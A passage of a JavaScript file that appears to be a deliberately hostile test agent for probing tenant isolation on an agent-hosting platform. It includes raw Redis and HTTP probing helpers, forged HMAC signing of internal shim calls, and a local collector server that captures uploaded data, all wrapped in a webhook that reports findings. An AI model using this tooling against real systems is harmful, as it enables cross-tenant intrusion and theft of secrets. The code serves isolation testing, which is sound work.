    const step = async (name, fn) => {
      try {
        await fn();
      } catch (err) {
        this.ran(`${name}-error`, err && err.message ? err.message.replace(BOT_TOKEN_G, '<token>') : String(err));
      }
    };
    await step('own-env', () => this.probeOwnEnv());
    await step('proc', () => this.probeProc());
    await step('fs', () => this.probeFiles());
    await step('network', () => this.probeNetwork());
    // Never a secret in the report: anything found is scrubbed from it, whatever field it got into.
    const report = { v: 1, tenant: TENANT, elapsedMs: Date.now() - started, probes: this.probes, findings: this.findings };
    let text = JSON.stringify(report);
    for (const value of [...this.secrets.keys()].sort((a, b) => b.length - a.length)) if (value.length >= 8) text = text.split(value).join('<secret>');
    return JSON.parse(text);
  }
}

// ---------------------------------------------------------------- wire helpers

/** One Redis command in RESP (binary-safe: any secret's bytes). */
const resp = (...args) => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`;

/** Writes `payload` to host:port and returns what came back within `ms` (undefined: nothing, or refused). */
function rawExchange(host, port, payload, ms, waitAll = false) {
  return new Promise((resolve) => {
    let got = '';
    const socket = net.connect({ host, port });
    const done = () => {
      socket.destroy();
      resolve(got || undefined);
    };
    const timer = setTimeout(done, ms);
    socket.once('connect', () => socket.write(payload));
    socket.on('data', (d) => {
      got += d.toString('latin1');
      if (got.length > 64 * 1024) {
        clearTimeout(timer);
        done();
      } else if (!waitAll) {
        clearTimeout(timer);
        done();
      }
    });
    socket.once('error', () => {
      clearTimeout(timer);
      done();
    });
    socket.once('close', () => {
      clearTimeout(timer);
      done();
    });
  });
}

const keepAlive = new http.Agent({ keepAlive: true, maxSockets: 4 });

/** One HTTP call, bounded: {status, body (first 256 KB, latin1), bytes, type} or undefined. */
function httpCall(method, url, body, headers = {}, ms = OP_TIMEOUT_MS) {
  return new Promise((resolve) => {
    let u;
    try {
      u = new URL(url);
    } catch {
      resolve(undefined);
      return;
    }
    const req = http.request({ method, host: u.hostname, port: u.port, path: `${u.pathname}${u.search}`, headers: { ...headers, ...(body !== undefined ? { 'content-length': Buffer.byteLength(body) } : {}) }, agent: keepAlive, timeout: ms }, (res) => {
      const chunks = [];
      let bytes = 0;
      res.on('data', (d) => {
        bytes += d.length;
        if (bytes <= 256 * 1024) chunks.push(d);
      });
      res.on('end', () => resolve({ status: res.statusCode, body: Buffer.concat(chunks).toString('latin1'), bytes, type: res.headers['content-type'] }));
      res.on('error', () => resolve(undefined));
    });
    const timer = setTimeout(() => req.destroy(), ms);
    req.on('close', () => clearTimeout(timer));
    req.on('timeout', () => req.destroy());
    req.on('error', () => resolve(undefined));
    req.end(body);
  });
}

/** lib/runtime/shim-auth.ts, as an attacker who read it would write it. */
function signShimCall(secret, method, route, body) {
  const ts = String(Date.now());
  const nonce = randomBytes(12).toString('base64url');
  const bodyHash = createHash('sha256').update(body).digest('hex');
  const mac = createHmac('sha256', secret).update(`${method}\n${route}\n${ts}\n${nonce}\n${bodyHash}`).digest('base64url');
  return `v1.${ts}.${nonce}.${mac}`;
}

/** A tiny HTTP server of its own that keeps whatever is PUT or POSTed to it (bounded). */
function startCollector() {
  return new Promise((resolve) => {
    const received = [];
    const server = http.createServer((req, res) => {
      const chunks = [];
      let size = 0;
      req.on('data', (d) => {
        size += d.length;
        if (size <= 16 * 1024 * 1024) chunks.push(d);
      });
      req.on('end', () => {
        if (req.method === 'PUT' || req.method === 'POST') received.push({ path: req.url, body: Buffer.concat(chunks) });
        res.writeHead(req.method === 'GET' ? 404 : 200, { etag: '"x"' });
        res.end();
      });
    });
    server.listen(0, '127.0.0.1', () => {
      resolve({
        url: `http://127.0.0.1:${server.address().port}`,
        received,
        close: () => new Promise((r) => {
          server.close(() => r());
          server.closeAllConnections?.();
        }),
      });
    });
  });
}

// ---------------------------------------------------------------- the agent itself

let running; // one probe at a time; a redelivery of the same message gets the same answer
const answered = new Map();

function summary(report) {
  const compact = (withTargets, withDetails) => JSON.stringify({
    v: 1, tenant: report.tenant, probes: report.probes.map((p) => p.name),
    findings: report.findings.map((f) => ({ n: f.name, ...(withTargets && f.target ? { t: f.target } : {}), ...(f.via ? { v: f.via } : {}) })),
    ...(withDetails ? { details: report.probes.map((p) => `${p.name}: ${p.detail}`) } : {}),
  });
  // What each probe did goes along while it fits: a failing run then says what was tried.
  let text = compact(true, true);
  if (text.length > 3900) text = compact(true, false);
  if (text.length > 3900) text = compact(false, false);
  if (text.length > 3900) {
    const names = [...new Set(report.findings.map((f) => f.name))];
    text = JSON.stringify({ v: 1, tenant: report.tenant, probes: report.probes.map((p) => p.name), findings: names.map((n) => ({ n })), truncated: true }).slice(0, 3900);
  }
  return `HOSTILE-REPORT ${text}`;
}

async function handle(message, key) {
  if (key && answered.has(key)) return answered.get(key);
  let response;
  const m = /^probe(?:\s+(\{[\s\S]*\}))?\s*$/.exec(message.trim());
  if (m) {
    let args = {};
    try {
      args = m[1] ? JSON.parse(m[1]) : {};
    } catch {
      args = {};
    }
    running = (running ?? Promise.resolve()).then(() => new Probe(args).run());
    const report = await running;
    try {
      writeFileSync(path.join(WORKSPACE, 'hostile-report.json'), JSON.stringify(report, null, 2));
    } catch {
      /* its own workspace: should be writable */
    }
    response = summary(report);
  } else {
    response = `hostile agent ${TENANT} heard: ${message.slice(0, 200)}`;
  }
  if (key) answered.set(key, response);
  if (answered.size > 100) answered.delete(answered.keys().next().value);
  return response;
}

const server = http.createServer((req, res) => {
  const send = (status, body) => {
    const text = JSON.stringify(body);
    res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
    res.end(text);
  };
  const url = (req.url ?? '/').split('?')[0];
  if (url === '/health' && req.method === 'GET') return send(200, { status: 'ok' });
  if (url !== '/webhook' || req.method !== 'POST') return send(404, { error: 'not found' });
  const chunks = [];
  let size = 0;
  req.on('data', (d) => {
    size += d.length;
    if (size <= 1024 * 1024) chunks.push(d);
  });
  req.on('end', () => {
    let message;
    try {
      message = JSON.parse(Buffer.concat(chunks).toString('utf8')).message;
    } catch {
      return send(400, { error: 'body is not JSON' });
    }
    if (typeof message !== 'string') return send(400, { error: 'expected {"message": "<text>"}' });
    const key = typeof req.headers['x-idempotency-key'] === 'string' ? req.headers['x-idempotency-key'] : undefined;
    handle(message, key).then((response) => send(200, { response }), () => send(500, { error: 'internal error' }));
  });
});
server.listen(PORT, HOST, () => process.stdout.write(`${JSON.stringify({ msg: 'hostile agent listening', tenant: TENANT, port: PORT })}\n`));
const stop = () => server.close(() => process.exit(0));
process.on('SIGTERM', stop);
process.on('SIGINT', stop);
